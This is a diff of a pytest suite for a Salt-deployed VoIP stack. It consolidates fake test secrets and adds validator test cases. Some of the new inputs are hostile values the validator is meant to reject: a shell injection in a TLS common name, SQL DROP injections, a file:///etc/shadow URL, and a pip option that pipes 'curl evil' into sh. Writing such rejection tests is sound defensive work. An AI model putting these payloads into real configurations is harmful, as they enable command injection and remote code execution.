@@ -31,12 +31,12 @@ def env(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("render")
     site = tmp / "pillar" / "site"
     site.mkdir(parents=True)
-    secrets = {"lab": fake_secrets(), "au": fake_secrets()}
-    secrets["au"]["freeswitch"]["signalwire_token"] = "pat_fake_signalwire_token_for_tests"
-    (site / "lab.sls").write_text(json.dumps({"secrets": secrets["lab"]}))
-    (site / "au.sls").write_text(json.dumps({"secrets": secrets["au"], "postgres": {"replicas": [AU_REPLICA]},
+    secrets = fake_secrets()
+    secrets["freeswitch"]["signalwire_token"] = "pat_fake_signalwire_token_for_tests"
+    (tmp / "secrets.sls").write_text(json.dumps({"secrets": secrets}))
+    (site / "au.sls").write_text(json.dumps({"postgres": {"replicas": [AU_REPLICA]},
                                              "freeswitch": {"node_address": FS_ADDRESS}}))
-    config = write_minion_config(tmp / "etc", tmp / "pillar")
+    config = write_minion_config(tmp / "etc", tmp / "secrets.sls", tmp / "pillar")
     # A media node derives its xml_curl password from its minion key.
     pki = tmp / "etc" / "root" / "etc" / "salt" / "pki" / "minion"
     pki.mkdir(parents=True)
@@ -86,8 +86,8 @@ def rendered(env, lowstate):
     return get
 
 
-def _secrets(env, minion_id):
-    return env["secrets"]["lab" if minion_id.startswith("lab-") else "au"]
+def _secrets(env, minion_id):  # noqa: ARG001  (one fake set serves every minion)
+    return env["secrets"]
 
 
 @pytest.mark.parametrize("minion_id", ROLE_OF)
@@ -201,11 +201,25 @@ def test_lab_needs_no_interface(lowstate):
     ({"secrets": {"freeswitch": {"signalwire_token": None}}}, "secrets:freeswitch:signalwire_token"),
     ({"freeswitch": {"binary": "docker"}}, "freeswitch:binary"),
     ({"postgres": {"dispatcher_sets": {1: {"region": "Sydney; --", "description": "x"}}}},
-     "postgres:dispatcher_sets"),
+     "postgres:dispatcher_sets:1:region"),
+    ({"postgres": {"dispatcher_sets": {"one": {"region": "syd", "description": "x"}}}},
+     "postgres:dispatcher_sets:one"),
     ({"salt_master": {"vultr_api_url": "file:///etc/shadow"}}, "salt_master:vultr_api_url"),
     ({"salt_master": {"placement": {"evil-1": 1}}}, "salt_master:placement"),
-    ({"salt_master": {"placement": {"fs-syd-1": "1; DROP TABLE"}}}, "salt_master:placement"),
-    ({"salt_master": {"allowed_networks": ["0.0.0.0/0 ; x"]}}, "salt_master:allowed_networks"),
+    ({"salt_master": {"placement": {"fs-syd-1": "1; DROP TABLE"}}}, "salt_master:placement:fs-syd-1"),
+    ({"salt_master": {"allowed_networks": ["0.0.0.0/0 ; x"]}}, "salt_master:allowed_networks:0"),
+    # Keys the old validator never looked at, and unknown keys (a typo would be ignored).
+    ({"kamailio": {"tls_common_name": "sip.gopbx.au' -x 'touch /tmp/p"}}, "kamailio:tls_common_name"),
+    ({"kamailio": {"tls_certificate": "/etc/ssl/sip.pem"}}, "kamailio:tls_private_key"),
+    ({"kamailio": {"nonlocal_bind": "yes"}}, "kamailio:nonlocal_bind"),
+    ({"kamailio": {"tls_comon_name": "sip.gopbx.au"}}, "kamailio"),
+    ({"postgres": {"database": "gopbx; DROP DATABASE x"}}, "postgres:database"),
+    ({"postgres": {"login_roles": {"kamailio": {"secret": "kamailio", "pooled": "true", "replication": False}}}},
+     "postgres:login_roles:kamailio:pooled"),
+    ({"pgbouncer": {"stats_users": ["gopbx_metrics,admin"]}}, "pgbouncer:stats_users:0"),
+    ({"api": {"pip_options": "--index-url http://x; curl evil | sh"}}, "api:pip_options"),
+    ({"redis": "512"}, "redis"),
+    ({"redis": {"required_secrets": []}}, "redis"),
     ({"secrets": {"postgres": {"salt": "short"}}}, "secrets:postgres:salt"),
     ({"kamailio": {"max_contacts": 0}}, "kamailio:max_contacts"),
 ])
@@ -377,7 +391,7 @@ def test_freeswitch_fetches_users_and_dialplans_with_its_own_credentials(env, fr
 def test_freeswitch_event_socket_is_private_and_for_the_coordinator(env, freeswitch):
     settings = _params(freeswitch["conf"]["event_socket.conf"])
     assert settings["listen-ip"] == FS_ADDRESS and settings["listen-port"] == "8021"
-    assert settings["password"] == env["secrets"]["au"]["freeswitch"]["esl_password"]
+    assert settings["password"] == env["secrets"]["freeswitch"]["esl_password"]
     lists = {item.get("name"): item for item in freeswitch["conf"]["acl.conf"].iter("list")}
     acl = lists[settings["apply-inbound-acl"]]
     assert acl.get("default") == "deny"
